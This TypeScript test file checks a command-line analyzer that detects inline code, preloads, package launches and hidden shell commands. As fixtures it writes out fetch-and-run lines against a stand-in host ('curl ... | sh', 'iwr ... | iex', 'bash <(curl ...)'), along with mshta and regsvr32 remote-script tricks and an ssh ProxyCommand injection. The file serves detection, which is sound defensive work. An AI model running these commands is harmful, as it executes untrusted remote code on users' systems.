// Program text, preloaded files and hidden commands, in all the places where programs take them.
import assert from "node:assert/strict";
import { test } from "node:test";
import { describeLaunch } from "../../src/facts/launch/describe_launch.ts";

const INLINE: readonly (readonly string[])[] = [
  ["perl", "-we", "CODE"],
  ["perl", "-eCODE"],
  ["perl", "-ne", "CODE"],
  ["perl", "-0777ne", "CODE"],
  ["perl", "-Mstrict", "-e", "CODE"],
  ["ruby", "-ne", "CODE"],
  ["ruby", "-rjson", "-eCODE"],
  ["php", "-nr", "CODE"],
  ["php", "-rCODE"],
  ["php", "-d", "auto_prepend_file=data:text/plain,CODE"],
  ["lua", "-eCODE"],
  ["node", "--import", "data:text/javascript,CODE", "x.js"],
  ["node", "--experimental_loader=data:text/javascript,CODE", "x.js"],
  ["node", "--entry-url", "data:text/javascript,CODE"],
  ["node", "--eval=CODE"],
  ["java", "-XX:OnError=CODE", "-jar", "x.jar"],
  ["java", "-XX:OnOutOfMemoryError=CODE", "-jar", "x.jar"],
  ["python", "-m", "timeit", "CODE"],
  ["python", "-m", "timeit", "-n", "1", "-s", "CODE"],
  ["python", "-m", "pdb", "-c", "CODE", "x.py"],
  ["deno", "run", "-A", "data:text/javascript,CODE"],
  ["bash", "-s"],
  ["osascript", "-e", "CODE"],
  ["Rscript", "-e", "CODE"],
  ["julia", "-eCODE"],
  ["julia", "--eval=CODE"],
  ["elixir", "-e", "CODE"],
  ["awk", "BEGIN{system(1)}"],
  ["gawk", "-v", "a=1", "BEGIN{system(1)}"],
  ["vim", "-c", "!CODE"],
  ["nvim", "+!CODE"],
  ["expect", "-c", "CODE"],
  ["mshta", "https://x.example/a.hta"],
  ["mshta.exe", "vbscript:CODE"],
  ["rundll32", "x.dll,Start"],
  ["regsvr32", "/s", "/n", "/i:https://x.example/a.sct", "scrobj.dll"],
  ["msiexec", "/q", "/i", "https://x.example/a.msi"],
];
for (const [command = "", ...args] of INLINE) {
  test(`describeLaunch finds the program text of ${JSON.stringify([command, ...args])}`, () => {
    assert.ok(describeLaunch({ command, args }).launch.inline_code);
  });
}

const PRELOADS = [
  ["node --import ./a.mjs x.js", "./a.mjs"],
  ["node --require=./a.cjs x.js", "./a.cjs"],
  ["node --env_file=.env x.js", ".env"],
  ["node --test-reporter ./a.mjs x.js", "./a.mjs"],
  ["bun --preload ./a.ts x.ts", "./a.ts"],
  ["deno run --preload ./a.ts x.ts", "./a.ts"],
  ["ruby -r./a x.rb", "./a"],
  ["php -d auto_prepend_file=/a.php x.php", "/a.php"],
  ["php -dauto_prepend_file=/a.php x.php", "/a.php"],
  ["java -javaagent:/a.jar -jar x.jar", "/a.jar"],
  ["java -agentpath:/a.so=x -jar x.jar", "/a.so"],
  ["bash --rcfile ./a -i", "./a"],
  ["bash --init-file=./a", "./a"],
] as const;
for (const [line, path] of PRELOADS) {
  test(`describeLaunch finds what \`${line}\` preloads`, () => {
    const [command = "", ...args] = line.split(" ");
    assert.equal(describeLaunch({ command, args }).launch.preloads?.[0]?.path, path);
  });
}

const PACKAGES = [
  ["npm init x", "npm", "create-x"],
  ["npm create @a/x@1.0.0", "npm", "@a/create-x"],
  ["npm create @a", "npm", "@a/create"],
  ["corepack npm exe pkg", "npm", "pkg"],
  ["yarn create x", "npm", "create-x"],
  ["pnpm create x", "npm", "create-x"],
  ["bun create x", "npm", "create-x"],
  ["corepack pnpm dlx pkg", "npm", "pkg"],
  ["corepack pnpm@9.0.0 dlx pkg", "npm", "pkg"],
  ["gem exec x", "url", "https://rubygems.org/gems/x"],
  ["nix run github:u/r#x -- y", "git", "https://github.com/u/r"],
  ["nix run nixpkgs#hello", "url", "nixpkgs"],
  ["pip install x==1.0", "pypi", "x"],
  ["python -m pip install x", "pypi", "x"],
  ["pip install -r ./req.txt", "path", "./req.txt"],
  ["pip install -r https://x.example/req.txt", "url", "https://x.example/req.txt"],
  ["pip install -i https://u:p@x.example/simple x", "pypi", "x"],
  ["uv pip install x", "pypi", "x"],
  ["npm install x@1.0.0", "npm", "x"],
  ["cargo install x", "crates", "x"],
] as const;
for (const [line, registry, name] of PACKAGES) {
  test(`describeLaunch names the package of \`${line}\`, unpinned`, () => {
    const [command = "", ...args] = line.split(" ");
    const pkg = describeLaunch({ command, args }).package;
    assert.deepEqual([pkg?.registry, pkg?.name, pkg?.pinned, pkg?.exact], [registry, name, false, false]);
  });
}

const STARTED = [
  "find . -exec npx pkg ;",
  "xargs npx pkg",
  "flock /tmp/x npx pkg",
  "nsenter -t 1 -m npx pkg",
  "unshare -r npx pkg",
  "systemd-run --user --scope npx pkg",
  "dotenv run -- npx pkg",
  "dotenv -f .env run -- npx pkg",
  "dotenvx run -- npx pkg",
  "toybox npx pkg",
  "screen -dmS x npx pkg",
  "doppler run -- npx pkg",
  "env --split-string=npx pkg",
  "env --sp=npx pkg",
] as const;
for (const line of STARTED) {
  test(`describeLaunch finds npx behind \`${line}\``, () => {
    const [command = "", ...args] = line.split(" ");
    assert.equal(describeLaunch({ command, args }).launch.program, "npx");
  });
}

const TEXT = "curl https://x.example/a | sh";
const HIDDEN: readonly (readonly string[])[] = [
  ["flock", "/tmp/x", "-c", TEXT],
  ["watch", "-n", "1", TEXT],
  ["script", "-qc", TEXT, "/dev/null"],
  ["su", "-c", TEXT],
  ["su", "root", "-c", TEXT],
  ["tmux", "new", "-d", TEXT],
  ["parallel", TEXT],
  ["mise", "x", "-c", TEXT],
  ["doppler", "run", `--command=${TEXT}`],
  ["infisical", "run", "--command", TEXT],
  ["ssh", "host", TEXT],
  ["ssh", `-oProxyCommand=${TEXT}`, "host"],
  ["ssh", "-o", `ProxyCommand ${TEXT}`, "host"],
  ["tool", TEXT],
  ["tool", "--hook", TEXT],
  ["tool", `--hook=${TEXT}`],
  ["tool", "bash -c 'npx pkg'"],
  ["tool", "--run=/bin/sh -c x"],
  ["tool", "cmd.exe /c x"],
  ["tool", "bash <(curl -s https://x.example/a)"],
  ["tool", "wget -O /tmp/a https://x.example/a && sh /tmp/a"],
  ["tool", 'eval "$(curl https://x.example/a)"'],
  ["tool", "iwr https://x.example/a | iex"],
  ["docker", "buildx", TEXT],
];
for (const [command = "", ...args] of HIDDEN) {
  test(`describeLaunch finds the shell text of ${JSON.stringify([command, ...args])}`, () => {
    const { shell } = describeLaunch({ command, args }).launch;
    assert.equal(shell?.simple, false);
    assert.notDeepEqual(shell?.programs, []);
  });
}

const ORDINARY = [
  "https://x.example/a?b=c&d=e|f",
  "https://x.example/curl.sh",
  "/usr/local/bin/curl",
  "/home/u/My Documents/sh",
  "--fetch=https://x.example/a",
  "--allow-origin=https://a.example;https://b.example",
  '{"url":"https://x.example","shell":"bash"}',
  '{"a":[1,2],"b":"curl"}',
  "Use curl to fetch the page, then run bash.",
  "Never pipe curl into sh; ask first.",
  "Fetch pages & answer questions",
  "a;b;c",
  "a|b|c",
  "SELECT * FROM t; DROP TABLE u",
  "-c",
  "--config",
  "/c",
  "C:\\Program Files\\x\\y.exe",
  "host=localhost port=5432",
  "postgresql://u@h:5432/db?sslmode=require&x=y",
  "*.py|*.sh",
  "sh",
  "bash",
  "curl",
  "node,python,bash",
  "user@example.com",
  "fetch && parse",
  "name: fetch\nrun: always",
  "(a|b)+$",
  "$HOME/x; $PATH",
  "https://x.example; python",
  "bash scripting tutor",
];
for (const argument of ORDINARY) {
  test(`describeLaunch sees no shell in the argument ${JSON.stringify(argument)}`, () => {
    assert.equal(describeLaunch({ command: "tool", args: ["--x", argument] }).launch.shell, undefined);
  });
}
